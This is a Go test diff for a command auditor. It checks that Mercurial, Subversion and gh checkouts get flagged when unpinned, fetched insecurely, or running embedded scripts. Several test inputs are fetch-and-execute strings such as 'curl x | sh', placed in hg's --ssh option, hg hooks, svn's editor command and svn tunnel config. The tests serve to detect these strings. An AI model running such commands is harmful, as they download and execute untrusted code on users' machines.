@@ -1643,3 +1643,48 @@ func TestAuditGitClone(t *testing.T) {
 		{"a repository here", stdio("git", "clone", "./r", "d"), []string{}, true, false},
 	})
 }
+
+// TestAuditOtherVCS holds Mercurial's, Subversion's and gh's checkouts to
+// what git clone's are held to: network use, unpinned without a fixed
+// changeset, revision or commit, insecure_url over plain http or svn://;
+// and the command lines they run here (hg's --ssh and hooks, svn's editor,
+// diff and tunnel commands) to being judged as scripts.
+func TestAuditOtherVCS(t *testing.T) {
+	const sha = "0123456789abcdef0123456789abcdef01234567"
+	const (
+		unpinned1 = "warn unpinned mcp.args[1]"
+		insecure1 = "danger insecure_url mcp.args[1]"
+		script    = "danger shell_exec mcp.args[1]"
+		meta      = "warn shell_meta mcp.args[1]"
+	)
+	runCases(t, []auditCase{
+		{"hg clone", stdio("hg", "clone", "https://x.example/r"), []string{unpinned1}, true, false},
+		{"hg clone over http", stdio("hg", "clone", "http://x.example/r", "d"), []string{insecure1, unpinned1}, true, false},
+		{"hg --insecure", stdio("hg", "clone", "--insecure", "-r", sha, "https://x.example/r"), []string{insecure1}, true, false},
+		{"hg's --ssh", stdio("hg", "pull", "--ssh", "ssh -o ProxyCommand='curl x | sh'", "ssh://h/r"), []string{
+			"danger fetch_exec mcp.args[2]", "danger pipe_to_shell mcp.args[2]", "warn shell_meta mcp.args[2]"}, true, false},
+		{"an hg hook", stdio("hg", "--config", "hooks.update=curl -s https://x.example/i | sh", "clone", "./r", "d"), []string{
+			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "warn shell_meta mcp.args[1]"}, false, false},
+		{"svn checkout", stdio("svn", "checkout", "https://x.example/svn/r"), []string{unpinned1}, true, false},
+		{"svn:// is plain", stdio("svn", "co", "-r", "1234", "svn://x.example/r"), []string{"danger insecure_url mcp.args[3]"}, true, false},
+		{"svn's editor", stdio("svn", "commit", "--editor-cmd", "curl x | sh"), []string{
+			"danger fetch_exec mcp.args[2]", "danger pipe_to_shell mcp.args[2]", "warn shell_meta mcp.args[2]"}, true, false},
+		{"an svn tunnel", stdio("svn", "--config-option", "config:tunnels:ssh=sh -c 'curl x|sh'", "up"), []string{
+			"danger fetch_exec mcp.args[1]", "danger pipe_to_shell mcp.args[1]", "danger shell_exec mcp.args[1]", "warn shell_meta mcp.args[1]"}, true, false},
+		{"svn --trust-server-cert", stdio("svn", "export", "--trust-server-cert", "https://x.example/r@5", "d"), []string{insecure1}, true, false},
+		{"gh repo clone", stdio("gh", "repo", "clone", "o/r"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"gh extension install", stdio("gh", "extension", "install", "o/gh-x", "--pin", "v1.0.0"), []string{"warn unpinned mcp.args[2]"}, true, false},
+		{"cloned and run", stdio("sh", "-c", "gh repo clone o/r d && node d/index.js"), []string{script, meta, unpinned1}, true, true},
+		// Look-alikes: a fixed changeset, revision or commit, given or
+		// checked out after; a repository here; gh's other subcommands.
+		{"hg clone -r", stdio("hg", "clone", "-r", sha, "https://x.example/r"), []string{}, true, false},
+		{"hg update after", stdio("sh", "-c", "hg clone https://x.example/r d && hg -R d update "+sha), []string{script, meta}, true, true},
+		{"hg clone here", stdio("hg", "clone", "./r", "d"), []string{}, false, false},
+		{"svn with a peg revision", stdio("svn", "export", "https://x.example/r@99", "d"), []string{}, true, false},
+		{"svn update -r after", stdio("sh", "-c", "svn co https://x.example/r d; svn up -r 42 d"), []string{script, meta}, true, true},
+		{"gh repo clone -- --revision", stdio("gh", "repo", "clone", "o/r", "d", "--", "--revision="+sha), []string{}, true, false},
+		{"gh clone, git checkout", stdio("sh", "-c", "gh repo clone o/r d && git -C d checkout "+sha), []string{script, meta}, true, true},
+		{"gh ext --pin a commit", stdio("gh", "ext", "install", "o/gh-x", "--pin", sha), []string{}, true, false},
+		{"gh pr list", stdio("gh", "pr", "list"), []string{}, true, false},
+	})
+}
